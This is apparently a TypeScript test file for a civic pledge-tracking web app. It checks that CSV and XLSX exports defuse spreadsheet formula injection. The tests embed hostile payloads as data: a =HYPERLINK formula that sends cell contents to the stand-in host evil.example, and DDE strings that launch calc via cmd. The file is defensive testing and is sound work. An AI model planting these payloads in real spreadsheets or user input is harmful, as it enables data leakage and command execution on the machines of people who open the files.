// Formula injection: what a citizen or an official typed never becomes a live formula in a spreadsheet the product
// writes. A proposal titled =HYPERLINK(…) linked to a pledge, a pledge title and a press record starting with = + - @:
// every CSV cell that would start a formula begins with a single quote (the value otherwise as typed); the XLSX
// downloads hold those values as text, not formula cells.
import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import { testApp, Client, type TestApp } from './helpers.ts';
import * as store from '../src/modules/pledges/store.ts';
import { parseCsv } from '../src/modules/pledges/domain/index.ts';
import { formulaSafe } from '../src/platform/reports/formula-safe.ts';

let t: TestApp;
before(async () => {
  t = await testApp();
});
after(async () => {
  await t.close();
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"자세히 보기")';
const cells = async (res: Response) => {
  assert.equal(res.status, 200);
  return parseCsv((await res.text()).replace(/^\uFEFF/, '')).flat();
};
const dangerous = (v: string) => /^[=+\-@\t\r]/.test(v) && !/^-?[\d,.]+%?$/.test(v) && v !== '-';

test('formulaSafe: OWASP rule, numbers and plain text untouched', () => {
  assert.equal(formulaSafe('=1+2'), "'=1+2");
  assert.equal(formulaSafe('+82 10'), "'+82 10");
  assert.equal(formulaSafe('-2+3'), "'-2+3");
  assert.equal(formulaSafe('@SUM(A1)'), "'@SUM(A1)");
  assert.equal(formulaSafe('\t=1'), "'\t=1");
  assert.equal(formulaSafe('\r=1'), "'\r=1");
  for (const keep of ['-3', '+1.5', '-1,234', '12%', '-', '공약 =1', '', 12, -4, null])
    assert.equal(formulaSafe(keep), keep);
});

test('a citizen proposal titled =HYPERLINK(…) and staff text reach the CSV downloads as text, the XLSX with no formula', async () => {
  const citizen = new Client(t);
  await citizen.loginAs('citizen-3');
  const created = await citizen.post('/s/sotong/propose', {
    title: HYPERLINK,
    body: '자세한 내용은 링크를 눌러 보세요. 버스 배차 간격을 줄여 주세요.',
    checkedSimilar: '1',
  });
  assert.equal(created.status, 303);
  const pid = Number(created.headers.get('location')!.match(/\/proposals\/(\d+)/)![1]);

  const planning = new Client(t);
  await planning.loginAs('planning');
  const id002 = (await store.pledgeIdByCode(t.p.db, '002'))!;
  assert.equal(
    (await planning.post(`/pledges/${id002}/links`, { path: `/proposals/${pid}`, kind: 'auto' })).status,
    303,
  );
  // Staff text: a press record through the form, a pledge title as an import or an edit would store it.
  assert.equal(
    (
      await planning.post(`/pledges/${id002}/communication`, {
        type: 'press',
        date: '2024-03-02',
        title: '+82 기사 @뉴스 =cmd|" /C calc"!A0',
        mediaName: '마당일보',
      })
    ).status,
    303,
  );
  await t.p.db.updateTable('pledges').set({ title: '-2+3+cmd|" /C calc"!A0' }).where('id', '=', id002).execute();

  const anyone = new Client(t);
  const linked = await cells(await anyone.request('/pledges/communication/tables/communication-linked.csv'));
  assert.ok(linked.includes(`'${HYPERLINK}`), linked.join(' | '));
  const press = await cells(await anyone.request(`/pledges/${id002}/communication/tables/communication-press.csv`));
  assert.ok(press.includes(`'+82 기사 @뉴스 =cmd|" /C calc"!A0`), press.join(' | '));
  const open = await cells(await anyone.request('/pledges/open-data.csv'));
  assert.ok(open.includes(`'-2+3+cmd|" /C calc"!A0`), open.join(' | '));
  for (const v of [...linked, ...press, ...open]) assert.ok(!dangerous(v), `a cell starts a formula: ${v}`);

  // XLSX: the same text, read back with exceljs, is a string cell; no formula anywhere in the workbooks.
  for (const path of [
    '/pledges/open-data.xlsx',
    `/pledges/${id002}/communication.xlsx`,
    '/pledges/communication.xlsx',
  ]) {
    const res = await anyone.request(path);
    assert.equal(res.status, 200, path);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const texts: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${path} ${ws.name}!${cell.address} is a formula`);
          assert.equal(cell.formula, undefined);
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      ),
    );
    assert.ok(
      texts.some((x) => x.includes('-2+3+cmd') || x.includes(HYPERLINK) || x.includes('+82 기사')),
      `${path}: ${texts.slice(0, 5).join(' | ')}`,
    );
  }
});
